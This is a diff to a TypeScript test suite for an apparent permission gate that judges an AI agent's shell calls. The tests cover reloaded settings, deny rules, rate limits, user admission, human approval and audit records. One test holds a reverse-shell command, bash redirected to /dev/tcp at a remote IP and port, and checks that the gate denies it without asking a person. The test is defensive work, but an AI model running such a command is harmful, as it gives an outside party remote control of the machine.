@@ -1,7 +1,7 @@
 import { mkdirSync, mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs'
-import { tmpdir } from 'node:os'
+import { tmpdir, userInfo } from 'node:os'
 import { join } from 'node:path'
-import { afterEach, beforeEach, describe, expect, test } from 'vitest'
+import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
 import { startMessagesServer } from '../../../test/servers/messages.ts'
 import type { LocalServer } from '../../../test/servers/server.ts'
 import type { JsonObject } from '../../call/tool-call.ts'
@@ -9,6 +9,9 @@ import { AbortError } from '../../classifier/denials.ts'
 import type { StoredRecord } from '../../journal/records.ts'
 import { openReader } from '../../journal/stores/sqlite-reader.ts'
 import { costDirectory, readCosts } from '../cost-files.ts'
+import type { PolicyChange } from '../policies.ts'
+import type { Question } from '../../humans/question.ts'
+import type { AskPerson } from './library-approver.ts'
 import { openGate, type OpenGate, type OpenGateOptions } from './open-gate.ts'
 
 let home: string
@@ -171,6 +174,64 @@ describe('a named session', () => {
   })
 })
 
+describe('settings that change while the gate is open', () => {
+  const settings = (text: string): void => {
+    mkdirSync(join(home, '.portcullis'), { recursive: true })
+    writeFileSync(join(home, '.portcullis', 'settings.json'), text)
+  }
+  const denying = '{"permissions":{"deny":["Bash(git status)"]}}'
+  const soon = { interval: 20, timeout: 5_000 }
+  const call = { command: 'git status' }
+
+  test('are in force; a broken edit keeps the last good ones and is told; a mended one is in force', async () => {
+    const told: PolicyChange[] = []
+    settings('{}')
+    const gate = await open({ onPolicyChange: (change) => told.push(change) })
+    expect((await gate.judge('Bash', call)).decision).toBe('allow')
+    settings(denying)
+    await vi.waitFor(async () => expect((await gate.judge('Bash', call)).decision).toBe('deny'), soon)
+    settings('{"permissions":')
+    await vi.waitFor(async () => {
+      expect((await gate.judge('Bash', call)).because[0]!.code).toBe('rule.deny')
+      expect(told.map(({ inForce }) => inForce)).toEqual(['new', 'last good'])
+    }, soon)
+    settings('{}')
+    await vi.waitFor(async () => expect((await gate.judge('Bash', call)).decision).toBe('allow'), soon)
+  })
+
+  test('broken from the start, nothing is allowed until it is mended', async () => {
+    const told: PolicyChange[] = []
+    settings('{"permissions":')
+    const gate = await open({ onPolicyChange: (change) => told.push(change) })
+    expect((await gate.judge('Bash', call)).because[0]!.code).toBe('policy.broken')
+    expect(told.map(({ inForce }) => inForce)).toContain('nothing is allowed')
+    settings('{}')
+    await vi.waitFor(async () => expect((await gate.judge('Bash', call)).decision).toBe('allow'), soon)
+  })
+})
+
+describe('who may ask, and how fast', () => {
+  test('as the settings say, and it is on record', async () => {
+    const admission = { rate: { burst: 2, perSecond: 0.001 }, users: { jane: 'member', john: 'viewer' } }
+    const settings = JSON.stringify({ admission })
+    const jane = await open({ settings, user: 'jane', session: 'of-jane' })
+    const codes = async (gate: OpenGate): Promise<string> =>
+      (await gate.judge('Bash', { command: 'ls' })).because[0]!.code
+    expect([await codes(jane), await codes(jane), await codes(jane)].at(-1)).toBe('rate.limited')
+    expect(await codes(await open({ settings, user: 'john' }))).toBe('user.not-admitted')
+    expect(await codes(await open({ settings }))).toBe('user.not-admitted')
+    await closeAll()
+    const events = (await records()).map(({ event, user, code }) => `${event} ${user} ${code}`)
+    expect(events).toContain('rate_limited jane rate.limited')
+    expect(events).toContain('permission_denied john user.not-admitted')
+  })
+
+  test('without a name, the session is of whoever runs the process', async () => {
+    const gate = await open()
+    expect(gate.session.user).toBe(userInfo().username)
+  })
+})
+
 describe('what ends badly', () => {
   test('a call that cannot be read is denied, and that is on record', async () => {
     const gate = await open({ session: 's-3', agent: 'mine' })
@@ -197,5 +258,60 @@ describe('what ends badly', () => {
     const verdict = await gate.judge('Bash', { command: 'ls' })
     expect(verdict).toMatchObject({ decision: 'deny', because: [{ code: 'policy.broken' }] })
     expect(verdict.because[0]!.sentence).toContain('settings.json:2`: permissions.alow: ')
+  })
+})
+
+describe('a gate with a person behind it', () => {
+  test('waits for what they choose, and the record names them', async () => {
+    const asked: Question[] = []
+    const approver: AskPerson = (question) => {
+      asked.push(question)
+      return Promise.resolve({ choice: { says: 'once' }, by: 'jane' })
+    }
+    const gate = await open({ approver, session: 's-4' })
+    const verdict = await gate.judge('Bash', UNSETTLED)
+    expect(verdict).toMatchObject({ decision: 'allow', because: [{ code: 'person.approved' }], approver: 'jane' })
+    expect(asked).toMatchObject([{ text: UNSETTLED.command, session: 's-4', tool: 'Bash' }])
+    await closeAll()
+    const found = await records()
+    expect(found.map(({ event, said }) => [event, said['approver']])).toEqual([
+      ['permission_granted', 'jane'],
+      ['permission_granted', 'jane'],
+    ])
+  })
+
+  test('what they allow for the session is not asked again, by the next process neither', async () => {
+    let asked = 0
+    const approver: AskPerson = () => Promise.resolve({ says: asked++ === 0 ? 'session' : 'deny' })
+    const first = await open({ approver, session: 's-5' })
+    expect((await first.judge('Bash', UNSETTLED)).decision).toBe('allow')
+    expect((await first.judge('Bash', UNSETTLED)).decision).toBe('allow')
+    await closeAll()
+    const second = await open({ approver, session: 's-5' })
+    expect((await second.judge('Bash', UNSETTLED)).decision).toBe('allow')
+    expect(asked).toBe(1)
+    const other = await second.judge('Bash', { command: 'another-unknown-program' })
+    expect([other.decision, other.because[0]!.code]).toEqual(['deny', 'person.denied'])
+  })
+
+  test.each<[string, AskPerson]>([
+    ['fails', () => Promise.reject(new Error('no terminal'))],
+    ['names a rule that was not offered', () => Promise.resolve({ says: 'rule', rule: 'Bash(*)' })],
+  ])('a function that %s has not said yes', async (_what, approver) => {
+    const gate = await open({ approver })
+    const verdict = await gate.judge('Bash', UNSETTLED)
+    expect([verdict.decision, verdict.because[0]!.code]).toEqual(['deny', 'humans.withdrawn'])
+  })
+
+  test('hard harm is not theirs to allow', async () => {
+    let asked = 0
+    const approver: AskPerson = () => {
+      asked++
+      return Promise.resolve({ says: 'once' })
+    }
+    const gate = await open({ approver })
+    const attack = { command: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' }
+    expect((await gate.judge('Bash', attack)).decision).toBe('deny')
+    expect(asked).toBe(0)
   })
 })
